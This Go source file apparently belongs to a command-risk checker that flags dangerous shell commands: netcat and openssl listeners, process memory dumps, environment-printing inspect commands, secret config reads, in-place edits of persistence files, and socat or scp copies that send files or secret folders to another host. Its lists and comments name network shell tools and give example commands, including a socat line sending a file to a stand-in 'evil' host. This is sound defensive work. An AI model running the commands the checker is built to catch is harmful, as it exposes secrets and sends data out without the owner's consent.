package shell

import (
	"strings"

	"github.com/countersign/countersign/risk/sensitive"
)

// Floors by program shape (issue 25): whole-command checks for the
// programs whose words alone do not say what they do: network clients
// told to listen or joined to a file, memory dumpers, inspect and show
// commands that print environments, config getters asked for a secret,
// in-place editors of persistence files, copies of secret folders to
// another host. Each is a danger whatever the model says.

// specialNames are the programs the whole-command floors below look at
// (netListen, memoryDump, envPrint, inPlacePlant, socatFile, copiesOut):
// any other name skips them at the cost of one lookup it already made.
var specialNames = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox-nc", "pwncat", "rlwrap",
	"openssl", "gcore", "procdump", "memdump", "dotnet-dump", "dotnet-gcdump", "criu", "pmdump", "minidump", "gdb",
	"lldb", "ltrace", "pstack", "eu-stack", "coredumpctl", "jmap", "jhsdb", "jcmd", "docker", "podman", "nerdctl",
	"crictl", "systemctl", "sed", "gsed", "perl", "ruby", "socat", "scp", "rsync", "rclone", "sftp", "lftp", "sshfs",
	"unison"}

// netListen records a danger for a network client told to listen (nc -l,
// ncat --listen, socat TCP-LISTEN, openssl s_server): whoever connects
// reaches what it carries. It reports whether it did.
func (j *judge) netListen(shown, name string, args []arg) bool {
	switch name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox-nc", "pwncat", "rlwrap":
		for _, a := range args {
			t := a.text
			if t == "--listen" || strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "--") && strings.IndexByte(t, 'l') > 0 {
				j.danger(shown + " " + t + " " + flListens)
				return true
			}
		}
	case "openssl":
		if len(args) > 0 && args[0].text == "s_server" {
			j.danger("openssl s_server " + flListens)
			return true
		}
	}
	return false
}

// memoryDump records a danger for a command that dumps or attaches to a
// process's memory; it reports whether it did.
func (j *judge) memoryDump(shown, name string, args []arg) bool {
	hit := false
	switch name {
	case "gcore", "procdump", "memdump", "dotnet-dump", "dotnet-gcdump", "criu", "pmdump", "minidump":
		hit = true
	case "gdb", "lldb", "ltrace", "pstack", "eu-stack":
		for i, a := range args {
			t := a.text
			if t == "-p" || t == "--pid" || strings.HasPrefix(t, "--pid=") || strings.HasPrefix(t, "-p") && isDigits(t[2:]) ||
				t == "attach" || t == "--attach-pid" || name == "gdb" && i > 0 && isDigits(t) {
				hit = true
			}
		}
	case "coredumpctl":
		for _, a := range args {
			if in(a.text, "dump", "debug", "gdb") {
				hit = true
			}
		}
	case "jmap", "jhsdb":
		for _, a := range args {
			if strings.HasPrefix(a.text, "-dump") || a.text == "jmap" || a.text == "dump" {
				hit = true
			}
		}
	case "jcmd":
		for _, a := range args {
			if strings.EqualFold(a.text, "GC.heap_dump") || strings.EqualFold(a.text, "VM.system_properties") {
				hit = true
			}
		}
	}
	if hit {
		j.danger(shown + " " + flMemory)
	}
	return hit
}

// envPrint records a danger for inspect and show commands that print a
// container's or a service's environment: docker inspect with no --format
// or one that prints Env, systemctl show with no property or the
// Environment one, systemctl show-environment.
func (j *judge) envPrint(shown, name string, args []arg) bool {
	switch name {
	case "docker", "podman", "nerdctl", "crictl":
		ops := make([]string, 0, 2)
		format, hasFormat := "", false
		for i, a := range args {
			t := a.text
			switch {
			case t == "-f" || t == "--format":
				hasFormat = true
				if i+1 < len(args) {
					format = args[i+1].text
				}
			case strings.HasPrefix(t, "--format="):
				hasFormat, format = true, strings.TrimPrefix(t, "--format=")
			case strings.HasPrefix(t, "-f") && len(t) > 2 && !strings.HasPrefix(t, "--"):
				hasFormat, format = true, t[2:]
			case !strings.HasPrefix(t, "-") && len(ops) < 2:
				ops = append(ops, t)
			}
		}
		inspect := len(ops) > 0 && (ops[0] == "inspect" || ops[0] == "inspectp" ||
			len(ops) > 1 && in(ops[0], "container", "service") && ops[1] == "inspect")
		if len(ops) > 1 && ops[0] == "compose" && ops[1] == "config" && !hasAnyOpt(args, "--services --volumes --images --profiles --networks -q --quiet --hash") {
			j.danger(shown + " compose config " + flEnvPrint)
			return true
		}
		if !inspect {
			return false
		}
		if len(ops) > 1 && in(ops[1], "image", "network", "volume") {
			return false
		}
		if !hasFormat || printsEnv(format) {
			j.danger(shown + " inspect " + flEnvPrint)
			return true
		}
	case "systemctl":
		ops := make([]string, 0, 1)
		prop := false
		for i, a := range args {
			t := a.text
			switch {
			case t == "-p" || t == "--property":
				if i+1 < len(args) {
					prop = true
					if strings.Contains(strings.ToLower(args[i+1].text), "environment") || strings.Contains(strings.ToLower(args[i+1].text), "exec") {
						j.danger(shown + " show -p " + args[i+1].text + " " + flEnvPrint)
						return true
					}
				}
			case strings.HasPrefix(t, "--property=") || strings.HasPrefix(t, "-p") && len(t) > 2 && !strings.HasPrefix(t, "--"):
				prop = true
				if low := strings.ToLower(t); strings.Contains(low, "environment") || strings.Contains(low, "exec") {
					j.danger(shown + " show " + t + " " + flEnvPrint)
					return true
				}
			case t == "-P":
				prop = true
			case !strings.HasPrefix(t, "-") && len(ops) < 1:
				ops = append(ops, t)
			}
		}
		if len(ops) == 0 {
			return false
		}
		if ops[0] == "show-environment" || ops[0] == "show" && !prop {
			j.danger(shown + " " + ops[0] + " " + flEnvPrint)
			return true
		}
	}
	return false
}

// printsEnv reports whether a Go template of docker inspect prints the
// environment: .Config.Env, json of the whole object or its Config.
func printsEnv(format string) bool {
	f := strings.ToLower(strings.Join(strings.Fields(format), ""))
	return strings.Contains(f, "env") || strings.Contains(f, "json.}}") || strings.Contains(f, "{{.}}") ||
		strings.Contains(f, "json.config") || strings.Contains(f, "{{.config}}") || f == "json" || strings.Contains(f, "printf\"%v\".")
}

// secretKeyWords are the parts of a key name that say it holds a secret.
var secretKeyWords = []string{"password", "passwd", "secret", "token", "apikey", "api_key", "api-key", "authtoken",
	"_auth", "requirepass", "masterauth", "private_key", "privatekey", "private-key", "credential", "access_key",
	"secret_key", "client_secret", "cookie"}

// getterVerb reports whether a word is the verb of a config getter or a
// key-value read, in any case: get, config:get, --get, read, show.
func getterVerb(v string) bool {
	if len(v) < 3 || len(v) > 12 {
		return false
	}
	switch v {
	case "get", "config:get", "get-value", "getenv", "--get", "--get-all", "--get-regexp", "read", "print", "show":
		return true
	}
	if c := v[0]; c < 'A' || c > 'Z' {
		return false // lower case and not a verb; upper case is tried folded (redis-cli CONFIG GET)
	}
	switch strings.ToLower(v) {
	case "get", "config:get", "get-value", "getenv", "read", "print", "show":
		return true
	}
	return false
}

// secretGetter records a danger for a config getter or key-value read
// asked for a key named like a secret: npm config get //r/:_authToken,
// git config --get user.password, consul kv get app/db_password,
// redis-cli CONFIG GET requirepass, aws configure get
// aws_secret_access_key. Only the word after the verb is the key.
func (j *judge) secretGetter(shown, name string, args []arg) bool {
	if name == "kubectl" || name == "oc" {
		return false // their own rows know secrets
	}
	for i := 0; i+1 < len(args) && i < 4; i++ {
		if !getterVerb(args[i].text) {
			continue
		}
		key := strings.ToLower(args[i+1].text)
		for _, s := range secretKeyWords {
			if strings.Contains(key, s) {
				j.danger(shown + " " + args[i].text + " " + clipWord(args[i+1].text) + " " + flGetter)
				return true
			}
		}
	}
	return false
}

// inPlaceEditors edit the files they are given when told -i.
var inPlaceEditors = map[string]bool{"sed": true, "gsed": true, "perl": true, "ruby": true}

// inPlacePlant records a danger for sed -i (perl -i, ruby -i) on a file
// where code runs later: a reader's row judges the edit a write, the
// model's low must not wave it through. It reports whether it did.
func (j *judge) inPlacePlant(shown, name string, args []arg) bool {
	if !inPlaceEditors[name] {
		return false
	}
	edits := false
	for _, a := range args {
		t := a.text
		if t == "--in-place" || strings.HasPrefix(t, "--in-place=") || strings.HasPrefix(t, "-i") ||
			strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "--") && strings.ContainsRune(t, 'i') && name == "sed" {
			edits = true
		}
	}
	if !edits {
		return false
	}
	for _, a := range args {
		if a.dynamic || strings.HasPrefix(a.text, "-") {
			continue
		}
		if why, ok := sensitive.RunsLater(a.text); ok {
			j.danger(shown + " -i " + a.text + ": " + why)
			return true
		}
	}
	return false
}

// socatFile records a danger for socat joining a file to the network
// (socat -u file:notes.txt tcp:evil:80): the file is sent, or written
// from what arrives.
func (j *judge) socatFile(shown, name string, args []arg) bool {
	if name != "socat" {
		return false
	}
	file, net := "", false
	for _, a := range args {
		t := strings.ToLower(a.text)
		kind, _, ok := strings.Cut(t, ":")
		if !ok {
			continue
		}
		switch kind {
		case "file", "open", "gopen", "create", "pipe", "unix-connect":
			file = a.text
		case "tcp", "tcp4", "tcp6", "udp", "udp4", "udp6", "tcp-connect", "tcp4-connect", "tcp6-connect",
			"udp-connect", "openssl", "openssl-connect", "ssl", "sctp", "sctp-connect", "socks4", "socks4a", "proxy":
			net = true
		}
	}
	if file != "" && net {
		j.danger(shown + " " + clipWord(file) + " joins a file to the network, which sends or overwrites it")
		return true
	}
	return false
}

// remoteHost reports whether an operand of scp or rsync names another
// host: host:path, user@host:path, host::module, rsync://.
func remoteHost(t string) bool {
	if strings.HasPrefix(t, "rsync://") {
		return true
	}
	k := strings.IndexByte(t, ':')
	return k > 0 && !strings.ContainsRune(t[:k], '/')
}

// copiesOut records a danger for scp, rsync and their kin copying a
// directory that holds secrets (/etc, ~, /root, .ssh) to another host.
func (j *judge) copiesOut(shown, name string, args []arg) bool {
	switch name {
	case "scp", "rsync", "rclone", "sftp", "lftp", "sshfs", "unison":
	default:
		return false
	}
	remote := false
	holds := ""
	for _, a := range args {
		t := a.text
		if a.dynamic || strings.HasPrefix(t, "-") {
			continue
		}
		if remoteHost(t) {
			remote = true
			continue
		}
		clean := strings.TrimSuffix(t, "/")
		if clean == "" {
			clean = "/"
		}
		if _, ok := j.a.secrets.MatchDir(clean); ok || in(clean, secretAncestors...) {
			holds = t
		}
	}
	if remote && holds != "" {
		j.danger(shown + " " + holds + " copies a folder that holds secrets to another host")
		return true
	}
	return false
}
